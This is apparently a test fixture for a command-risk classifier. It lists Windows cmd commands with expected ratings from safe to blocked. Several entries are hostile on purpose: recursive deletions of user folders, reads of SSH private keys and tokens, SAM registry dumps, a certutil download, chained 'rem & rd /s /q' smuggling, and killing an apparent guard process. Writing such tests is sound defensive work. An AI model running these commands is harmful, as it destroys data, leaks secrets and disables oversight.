dir /b src  # want safe
cd src && dir  # want safe
dir %UNSET%\  # want safe
type src\main.go  # want safe
type %USERPROFILE%\.ssh\id_rsa  # want moderate
echo built %DATE%  # want safe
set  # want moderate
set PROCESSOR  # want safe
set PATH > out.txt  # want moderate
set API_TOKEN  # want moderate
set A > NUL && rd /s /q src  # want dangerous irreversible
set src=lib  # want safe
copy src\main.go src\copy.go  # want moderate
copy /?  # want safe
move src\main.go src\app.go  # want moderate
ren src\main.go app.go  # want moderate
md out\bin  # want moderate
mklink /d out src  # want moderate
del src\main.go  # want moderate irreversible
del /s /q *.log  # want dangerous irreversible
rd /s /q src  # want dangerous irreversible
rd out  # want moderate
date /t  # want safe
time 12:00  # want dangerous
assoc .txt  # want safe
assoc .txt=evil  # want dangerous
path C:\tools;%PATH%  # want moderate
rem built & ver  # want safe
rem & rd /s /q src  # want dangerous irreversible
rem | rd /s /q src  # want dangerous irreversible
for /d %i in (C:\Users\*) do rd /s /q %i  # want blocked irreversible
for /r C:\Users %i in (*) do del %i  # want blocked irreversible
for /r src %i in (*.go) do @echo %i  # want safe
for /d %i in (*) do @echo %i  # want safe
find "func" src\main.go  # want safe
find "x" %USERPROFILE%\.ssh\id_rsa  # want moderate
find src -delete  # want dangerous irreversible
sort src\main.go  # want safe
sort %USERPROFILE%\.ssh\id_rsa  # want moderate
sort src\main.go /o sorted.txt  # want moderate
sort src\main.go /out C:\Windows\x  # want dangerous
more src\main.go  # want safe
more %USERPROFILE%\.ssh\id_rsa  # want moderate
fc src\main.go src\main.go  # want safe
comp %USERPROFILE%\.ssh\id_rsa src\main.go  # want moderate
print src\main.go  # want moderate
expand a.cab C:\Windows\x  # want dangerous
attrib src\main.go  # want safe
attrib +r src\main.go  # want moderate
echo %GITHUB_TOKEN%  # want moderate
reg query HKCU\Software\Acme  # want safe
reg query HKLM\SAM  # want moderate
reg query \\build07\HKLM\Software  # want moderate
reg save HKLM\SAM x  # want moderate
reg export HKCU x.reg  # want moderate
taskkill /f /im gk-hook.exe  # want blocked
taskkill /pid 4242  # want dangerous
taskkill /f /fi "status eq running"  # want dangerous
schtasks /query /fo list  # want safe
schtasks /create /tn x /tr y  # want dangerous
icacls src  # want safe
icacls src /grant Everyone:F  # want dangerous
wmic os get caption  # want safe
wmic process where name='gk-hook.exe' delete  # want blocked
wmic os get caption /format:x.xsl  # want dangerous
certutil -hashfile src\main.go SHA256  # want safe
certutil -urlcache -f http://x.example/a a  # want dangerous
cd /d C:\Users & del /s /q *  # want blocked irreversible
pushd C:\Users & rd /s /q .  # want blocked irreversible
findstr /f:list.txt x  # want moderate
findstr /f:/ x  # want safe
start https://x.example  # want moderate
xcopy src other /s /i /l  # want safe
xcopy /y src\main.go other.txt  # want moderate
xcopy /y src\main.go %USERPROFILE%\.bashrc  # want dangerous
xcopy /exclude:.env src other  # want moderate
robocopy src copy /e /l  # want safe
robocopy src copy /e  # want moderate
robocopy src %USERPROFILE% /mir  # want blocked irreversible
robocopy src copy /log:%USERPROFILE%\.bashrc  # want dangerous
robocopy %USERPROFILE%\.ssh copy /mov  # want dangerous
runas /user:Administrator cmd  # want dangerous
runas /?  # want dangerous
type //host/share/x  # want moderate
type \??\UNC\host\share\x  # want moderate
vol \\host\share  # want moderate
vol  # want safe
where /r \\host\share x  # want moderate
where \\host\share:x  # want moderate
where git  # want safe
findstr /g:%USERPROFILE%\.ssh\id_rsa x README.md  # want moderate
findstr /d:\\host\share x *  # want moderate
path C:\x& git status  # want moderate
